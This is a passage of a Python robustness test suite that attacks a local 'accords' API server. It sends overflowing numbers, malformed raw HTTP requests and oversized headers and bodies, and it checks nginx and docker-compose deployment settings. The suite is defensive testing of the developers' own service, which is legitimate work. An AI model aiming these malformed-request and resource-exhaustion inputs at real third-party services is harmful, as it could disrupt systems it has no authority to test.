        ctx.request("DELETE", location, key=True, expect=204)
        ctx.request("DELETE", "/v1/partners/XR", key=True, expect=(204, 409))
        r = ctx.request("POST", f"{location}/restore", key=True, expect=(201, 409, 422), label="POST restore after its partner was deleted")
        if r is not None:
            ctx.check(str(r.status) in listed, f"POST /v1/agreements/{{id}}/restore answered {r.status}, which its OpenAPI entry does not list ({sorted(listed)})")
    # A huge year in a pledge.
    ctx.request("POST", "/v1/agreements/ua-jp-2024/pledges", json_body={"amount": "1", "currency": "EUR", "kind": "military",
                "year_from": 2147483647, "year_to": 2147483647}, key=True, expect=(201, 422), label="POST a pledge of year 2147483647")
    ctx.request("GET", "/v1/stats/pledges?group_by=year", source="127.0.0.3", expect=200)
    ctx.request("PATCH", "/v1/agreements/ua-jp-2024", json_body={"term_years": 4294967296}, key=True, headers=merge, expect=422,
                label="PATCH term_years 2^32")


def small_process_items(ctx: Context) -> None:
    server = ctx.server
    # keys create --expires past the range: a clear error, no panic.
    for days in ("100000000", "36501", "0", "-1", U64_MAX):
        done = server.cli("keys", "create", "--name", f"hostile-expiry-{days[:6]}", "--scope", "write", "--expires", days)
        text = done.stderr.decode() + done.stdout.decode()
        ctx.check(done.returncode not in (0, 101) and "panicked" not in text,
                  f"keys create --expires {days}: exit {done.returncode}, {text.strip()[-200:]}")
    done = server.cli("keys", "create", "--name", "hostile-expiry-max", "--scope", "write", "--expires", "36500")
    ctx.check(done.returncode == 0, f"keys create --expires 36500 failed: {done.stderr.decode()[-200:]}")
    # Huge durations in the environment: a clear error at start, or a server that works.
    for name in ("ACCORDS_WAIT_FOR_DB_SECS", "ACCORDS_REQUEST_TIMEOUT_SECS", "ACCORDS_SHUTDOWN_GRACE_SECS", "ACCORDS_HEADER_TIMEOUT_SECS",
                 "ACCORDS_IDLE_TIMEOUT_SECS", "ACCORDS_BODY_TIMEOUT_SECS", "ACCORDS_DB_TIMEOUT_MS", "ACCORDS_RENDER_CACHE_BYTES",
                 "ACCORDS_BODY_LIMIT", "ACCORDS_CONNECTION_LIMIT", "ACCORDS_MAX_CONNECTIONS", "ACCORDS_EVENT_STREAM_LIMIT"):
        if ctx.quick and name not in ("ACCORDS_WAIT_FOR_DB_SECS", "ACCORDS_REQUEST_TIMEOUT_SECS", "ACCORDS_HEADER_TIMEOUT_SECS", "ACCORDS_DB_TIMEOUT_MS"):
            continue
        value = "4294967295" if name == "ACCORDS_MAX_CONNECTIONS" else U64_MAX
        verdict = briefly_serve(ctx, {name: value})
        ctx.check(verdict == "", f"{name}={value}: {verdict}")
    # An unreachable database and an endless wait: it waits, or says why; no panic.
    verdict = briefly_serve(ctx, {"ACCORDS_WAIT_FOR_DB_SECS": U64_MAX}, database_url="postgres://postgres@127.0.0.1:1/none",
                            expect_ready=False)
    ctx.check(verdict == "", f"ACCORDS_WAIT_FOR_DB_SECS={U64_MAX} with an unreachable database: {verdict}")


def briefly_serve(ctx: Context, env: dict[str, str], database_url: str | None = None, expect_ready: bool = True) -> str:
    """Starts a second `accords serve` with `env` for a few seconds: '' when it
    either refused to start with a clear error or served; else what went wrong."""
    port = free_port()
    full = ctx.server.environment(env)
    full["ACCORDS_BIND"] = f"127.0.0.1:{port}"
    if database_url:
        full["DATABASE_URL"] = database_url
    process = subprocess.Popen([ctx.server.binary, "serve"], env=full, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                               stderr=subprocess.STDOUT, start_new_session=True)
    register_process(process)
    problem = ""
    try:
        deadline = time.monotonic() + (15 if expect_ready else 3)
        served = False
        while time.monotonic() < deadline and process.poll() is None:
            try:
                r = http_request(port, "GET", "/healthz", timeout=1)
                if r.status == 200:
                    for method, target, body in (("GET", "/v1/agreements/ua-jp-2024", None), ("GET", "/v1/agreements?limit=2", None),
                                                 ("PATCH", "/v1/agreements/ua-jp-2024", b'{"signed_at": "Fasano"}')):
                        headers = [("Authorization", f"Bearer {ctx.key}"), ("Content-Type", "application/merge-patch+json")] if body else None
                        answer = http_request(port, method, target, headers, body, timeout=10)
                        if answer.status >= 500:
                            problem = f"{method} {target} answered {answer.status}: {answer.text(200)}"
                    served = True
                    break
            except TransportError:
                pass
            time.sleep(0.2)
        signalled = process.poll() is None
        if signalled:
            process.send_signal(15)
            try:
                process.wait(timeout=6)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait(timeout=5)
                if served:
                    problem = problem or "did not stop within 6 s of SIGTERM"
        output = process.stdout.read().decode("utf-8", "replace") if process.stdout else ""
        plain = re.sub(r"\x1b\[[0-9;]*m", "", output)
        lines = [l.strip() for l in plain.splitlines() if l.strip()]
        if "panicked" in plain or process.returncode == 101:
            at = next((i for i, l in enumerate(lines) if "panicked" in l), 0)
            return f"panicked: {' '.join(lines[at:at + 2])[:400]}"
        if process.returncode is not None and process.returncode < 0 and not served and not signalled:
            return f"killed by signal {-process.returncode}: {' '.join(lines[:2])[:300]}"
        if expect_ready and not served and process.returncode == 0:
            return "exited 0 without serving"
        if not served and expect_ready:
            last = lines[-1:] or ["(no output)"]
            # A clear refusal: the service's own "accords: ..." line, or the
            # argument parser's "error: invalid value ... for '--setting'".
            refused_setting = any(l.startswith("error: invalid value") for l in lines)
            if not last[0].startswith("accords:") and not refused_setting:
                return f"exit {process.returncode} without a one-line reason: {' '.join(lines[:2])[:300]}"
        return problem
    finally:
        if process.poll() is None:
            process.kill()
            process.wait(timeout=5)
        forget_process(process)


def http_layer_limits(ctx: Context) -> None:
    """What hyper answers by itself (over-long target, malformed request
    line) must be a problem too, like every 4xx."""
    cases = [
        ("an over-long request target (70 KB)", "GET /v1/agreements?x=" + "a" * 70000 + " HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        ("an over-long header section (2 MB)", "GET /healthz HTTP/1.1\r\nHost: x\r\nX-Big: " + "a" * (2 * 1024 * 1024) + "\r\nConnection: close\r\n\r\n"),
        ("a malformed request line", "GET\x01 / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        ("a header without a colon", "GET /healthz HTTP/1.1\r\nHost: x\r\nnocolon\r\nConnection: close\r\n\r\n"),
        ("an invalid Content-Length", "POST /v1/agreements HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\nConnection: close\r\n\r\n"),
        ("a control character in a header", "GET /healthz HTTP/1.1\r\nHost: x\r\nIdempotency-Key: a\x01b\r\nConnection: close\r\n\r\n"),
        ("a space in the request target", "GET /v1/agreements?q=a b HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
    ]
    for what, raw in cases:
        sock = connect(ctx, "127.0.0.12", timeout=10)
        try:
            sock.sendall(raw.encode("latin-1"))
        except OSError:
            pass
        response, why = read_head(sock, 10)
        ctx.untrack(sock)
        if response is None:
            ctx.note(f"{what}: no answer ({why})")
            continue
        ctx.note(f"{what}: {response.status}, content-type {response.header('content-type')}, {len(response.body)} bytes")
        ctx.check(response.status < 500, f"{what}: {response.status}")
        if response.status >= 400:
            defect = problem_defect(response)
            ctx.check(not defect, f"{what}: hyper's own {response.status} is not problem+json ({defect})")


# --- 14. the shipped deployment ----------------------------------------------------------------------


def deployment(ctx: Context) -> None:
    compose_checked = compose_config(ctx)
    nginx = shutil.which("nginx") or ("/usr/sbin/nginx" if Path("/usr/sbin/nginx").exists() else None)
    if nginx is None:
        if not compose_checked:
            raise Skip("neither docker-compose nor nginx is installed (apt-get install docker-compose nginx)")
        ctx.note("nginx is not installed: its checks were skipped")
        return
    work = ctx.server.workdir / f"nginx-{int(time.time() * 1000)}"
    (work / "logs").mkdir(parents=True)
    conf = (ROOT / "deploy" / "nginx.conf").read_text()
    listen = free_port()
    upstream = ctx.server.port
    # The replicas are our server; nginx listens on loopback.
    local = re.sub(r"server\s+accords-\d+:8080", f"server 127.0.0.1:{upstream}", conf)
    local = re.sub(r"listen\s+8080\s*;", f"listen 127.0.0.1:{listen};", local)
    (work / "nginx.conf").write_text(local)
    globals_ = f"pid {work}/nginx.pid; error_log {work}/logs/error.log; "
    tested = subprocess.run([nginx, "-t", "-p", str(work), "-c", str(work / "nginx.conf"), "-g", globals_],
                            capture_output=True, text=True, timeout=30)
    if not ctx.check(tested.returncode == 0, f"nginx -t rejects deploy/nginx.conf: {tested.stderr.strip()[-300:]}"):
        return
    limit = body_size_limit(conf)
    ctx.check(limit is not None and (limit == 0 or limit >= 64 * 1024 * 1024),
              f"deploy/nginx.conf: client_max_body_size is {limit if limit is not None else 'unset (nginx default 1m)'}; "
              f"the documented imports are 64 MiB (ACCORDS_IMPORT_BODY_LIMIT)")
    process = subprocess.Popen([nginx, "-p", str(work), "-c", str(work / "nginx.conf"), "-g", globals_ + "daemon off; master_process off;"],
                               stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, start_new_session=True)
    register_process(process)
    try:
        for _ in range(50):
            try:
                if http_request(listen, "GET", "/healthz", timeout=1).status == 200:
                    break
            except TransportError:
                time.sleep(0.1)
        # A large import through nginx reaches accords.
        exported = ctx.server.cli("export")
        size = (8 if ctx.quick else 60) * 1024 * 1024
        body = exported.stdout.rstrip() + b" " * max(0, size - len(exported.stdout))
        started = time.monotonic()
        try:
            r = http_request(listen, "POST", "/v1/import?dry_run=true",
                             [("Authorization", f"Bearer {ctx.key}"), ("Content-Type", "application/json")], body,
                             source="127.0.0.70", timeout=120)
            ctx.note(f"a {size >> 20} MiB dry-run import through nginx: {r.status} in {time.monotonic() - started:.1f} s")
            ctx.check(r.status == 200, f"a {size >> 20} MiB dry-run import through nginx answered {r.status}: {r.text(200)}")
        except TransportError as error:
            ctx.fail(f"a {size >> 20} MiB dry-run import through nginx: no answer ({error})")
        # Two readers behind nginx get a bucket each (with ACCORDS_TRUSTED_PROXIES naming nginx).
        first = [http_request(listen, "GET", "/v1/areas", source="127.0.0.71", timeout=10).status for _ in range(12)]
        second = http_request(listen, "GET", "/v1/areas", source="127.0.0.72", timeout=10)
        ctx.note(f"behind nginx: reader A got {first}, then reader B {second.status} (RateLimit-Remaining {second.header('ratelimit-remaining')})")
        ctx.check(429 in first, f"reader A was never limited behind nginx ({first}); is the read rate on?")
        ctx.check(second.status == 200, f"behind nginx, reader B shares reader A's rate-limit bucket: {second.status}")
    finally:
        if process.poll() is None:
            process.terminate()
            try:
                process.wait(timeout=5)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait(timeout=5)
        forget_process(process)


def body_size_limit(conf: str) -> int | None:
    """The largest client_max_body_size in the config (bytes; 0 = unlimited)."""
    sizes = []
    for value in re.findall(r"^\s*client_max_body_size\s+([0-9]+[kKmMgG]?)\s*;", conf, re.M):
        unit = value[-1].lower()
        number = int(value[:-1]) if unit in "kmg" else int(value)
        sizes.append(number * {"k": 1024, "m": 1024 ** 2, "g": 1024 ** 3}.get(unit, 1))
    if not sizes:
        return None
    return 0 if 0 in sizes else max(sizes)


def compose_config(ctx: Context) -> bool:
    """`docker-compose config` parses the file, and every accords service
    names ACCORDS_TRUSTED_PROXIES with the address nginx has."""
    tool = shutil.which("docker-compose")
    command = [tool] if tool else None
    if command is None and shutil.which("docker"):
        probe = subprocess.run(["docker", "compose", "version"], capture_output=True, timeout=30)
        if probe.returncode == 0:
            command = ["docker", "compose"]
    if command is None:
        ctx.note("docker-compose is not installed: the compose checks were skipped")
        return False
    done = subprocess.run([*command, "-f", str(ROOT / "docker-compose.yml"), "config"], capture_output=True, text=True, timeout=60,
                          cwd=ROOT)
    if not ctx.check(done.returncode == 0, f"docker-compose config fails: {done.stderr.strip()[-300:]}"):
        return True
    services = compose_services(done.stdout)
    accords = {name: body for name, body in services.items() if name.startswith("accords")}
    ctx.check(len(accords) >= 1, f"docker-compose config shows no accords service ({sorted(services)})")
    lb = services.get("lb", "")
    lb_addresses = set(re.findall(r"ipv4_address:\s*['\"]?([0-9.]+)", lb))
    for name, body in sorted(accords.items()):
        match = re.search(r"ACCORDS_TRUSTED_PROXIES:\s*['\"]?([^'\"\n]+)", body)
        if not ctx.check(match is not None, f"docker-compose.yml: {name} has no ACCORDS_TRUSTED_PROXIES, so behind nginx every reader shares one rate-limit bucket"):
            continue
        named = {a.strip() for a in match.group(1).split(",") if a.strip()}
        ctx.note(f"docker-compose config: {name} has ACCORDS_TRUSTED_PROXIES={match.group(1).strip()}; lb has {sorted(lb_addresses)}")
        ctx.check(bool(lb_addresses & named) or not lb_addresses,
                  f"docker-compose.yml: {name} trusts {sorted(named)}, but nginx (lb) has {sorted(lb_addresses) or 'no fixed address'}")
        if not lb_addresses:
            ctx.check(False, f"docker-compose.yml: lb has no fixed ipv4_address, so ACCORDS_TRUSTED_PROXIES={match.group(1)} cannot be known to name it")
    # A fixed address needs a network whose subnet holds it.
    subnets = re.findall(r"subnet:\s*['\"]?([0-9./]+)", done.stdout)
    for address in sorted(lb_addresses):
        inside = [n for n in subnets if ipaddress.ip_address(address) in ipaddress.ip_network(n, strict=False)]
        ctx.check(bool(inside), f"docker-compose.yml: lb's address {address} is in no subnet the file declares ({subnets or 'none'})")
        limit = re.search(r"ACCORDS_IMPORT_BODY_LIMIT:\s*['\"]?(\d+)", body)
        if limit:
            ctx.note(f"{name}: ACCORDS_IMPORT_BODY_LIMIT={limit.group(1)}")
    return True


def compose_services(text: str) -> dict[str, str]:
    """Each service's block of `docker-compose config` output (YAML, indented by 2)."""
    services: dict[str, str] = {}
    inside = False
    current = None
    for line in text.splitlines():
        if re.match(r"^services:\s*$", line):
            inside = True
            continue
        if inside and re.match(r"^\S", line):
            inside = False
        if not inside:
            continue
        match = re.match(r"^  ([A-Za-z0-9_.-]+):\s*$", line)
        if match:
            current = match.group(1)
            services[current] = ""
        elif current:
            services[current] += line + "\n"
    return services


# --- the list ---------------------------------------------------------------------------------------


ATTACKS: list[Attack] = [
    Attack("1", "metric labels", metric_labels, 60, 180, "1,000 made-up methods/paths", "4,000 made-up methods/paths"),
    Attack("2", "fuzzy matching, long refs", fuzzy_matching, 45, 90, "4 workers × 6 s", "8 workers × 20 s"),
    Attack("3a", "half-sent requests", half_sent, 60, 120, "600 from 4 addresses", "2,000 from 4 addresses"),
    Attack("3b", "event streams", event_streams, 60, 120, "300 from 6 addresses", "1,100 from 6 addresses"),
    Attack("3c", "event streams, total cap", event_stream_total, 60, 60, "48 against 24", "48 against 24",
           server_env={"ACCORDS_EVENT_STREAM_LIMIT": "24"}),
    Attack("3d", "slow body, idle, dripped headers", slow_clients, 40, 40, server_env={"ACCORDS_BODY_TIMEOUT_SECS": "3"}),
    Attack("4", "render cache, 300 KB Accepts", render_cache, 60, 180, "500 GETs", "1,000 GETs"),
    Attack("5", "idempotency across kill -9", idempotency_crash, 150, 240, "60 POSTs", "200 POSTs"),
    Attack("6", "overflowing sums", overflowing_sums, 60, 60),
    Attack("7", "lost updates (body version)", lost_updates, 60, 60),
    Attack("8", "JSON with trailing bytes", trailing_bytes, 60, 90),
    Attack("9", "NUL cursors, backend errors", error_mapping, 60, 120),
    Attack("10", "large uploads of bad rows", big_uploads, 90, 240, "bodies up to 17 MiB", "bodies up to 64 MiB"),
    Attack("11", "CSV formula injection", csv_injection, 60, 60),
    Attack("12", "deceptive text, user@ URLs", deceptive_text, 60, 120),
    Attack("13a", "query params, search words, Vary", small_query_items, 60, 60),
    Attack("13b", "import limit, far dates, restore", small_write_items, 60, 60),
    Attack("13c", "checked arithmetic (CLI, env)", small_process_items, 120, 240),
    Attack("13d", "hyper's own error answers", http_layer_limits, 30, 30),
    Attack("14", "compose file and nginx", deployment, 90, 180,
           server_env={"ACCORDS_TRUSTED_PROXIES": "127.0.0.1", "ACCORDS_READ_RATE": "5"}),
]


def select(only: str) -> list[Attack]:
    if not only:
        return list(ATTACKS)
    wanted = {w.strip() for w in only.split(",") if w.strip()}
    return [a for a in ATTACKS if a.id in wanted or a.id.rstrip("abcd") in wanted]


def cross_checks(suite) -> None:
    """After each backend's attacks: every status an operation answered is
    one its OpenAPI entry lists (13: restore answered an unlisted 422)."""
    for label, outcomes in suite.results.items():
        spec = suite.specs.get(label) or {}
        observed = suite.observed.get(label, set())
        if not spec or not observed:
            continue
        outcome = Outcome(name="OpenAPI: every answered status is documented")
        templates = []
        for path, operations in spec.get("paths", {}).items():
            pattern = "^" + re.sub(r"\\{[^}]+\\}", "[^/]+", re.escape(path)) + "$"
            templates.append((re.compile(pattern), path, operations))
        missing: dict[tuple[str, str, int], int] = {}
        for method, target, status in observed:
            for pattern, path, operations in templates:
                if pattern.match(target):
                    operation = operations.get(method.lower())
                    if operation is None:
                        break
                    listed = operation.get("responses", {})
                    if str(status) not in listed and "default" not in listed:
                        key = (method, path, status)
                        missing[key] = missing.get(key, 0) + 1
                    break
        for (method, path, status), _ in sorted(missing.items()):
            outcome.failures.append(f"{method} {path} answered {status}, which its OpenAPI entry does not list")
        outcome.notes.append(f"{len(observed)} distinct (method, path, status) answers checked against /openapi.json")
        outcomes.append(outcome)
